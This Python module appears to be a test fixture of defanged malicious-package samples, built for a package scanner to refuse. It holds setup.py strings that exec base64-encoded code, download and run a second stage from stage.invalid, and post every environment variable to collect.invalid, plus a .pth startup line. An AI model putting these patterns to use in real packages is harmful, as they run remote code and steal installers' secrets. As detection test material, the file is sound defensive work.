"""Packages with the shape of an attack and nothing of its harm.

What they would fetch, run or send leads to names that can never resolve (RFC 2606) and to commands
that do nothing. Nothing runs them: they exist to be refused.
"""

import base64

_QUIET = base64.b64encode(b"import os; os.system('true')").decode()

DECODE_EXEC = f"""\
import base64
from setuptools import setup

exec(base64.b64decode("{_QUIET}"))
setup(name="example", version="1.0")
"""

DOWNLOAD_RUN = """\
import os
import urllib.request
from setuptools import setup

with open("/tmp/example-stage", "wb") as stage:
    stage.write(urllib.request.urlopen("http://stage.invalid/two").read())
os.chmod("/tmp/example-stage", 0o755)
os.system("/tmp/example-stage")
setup(name="example", version="1.0")
"""

EXFILTRATE = """\
import json
import os
import urllib.request

data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request("http://collect.invalid/in", data=data))
"""

STARTUP_PTH = f"import base64; exec(base64.b64decode('{_QUIET}'))\n"
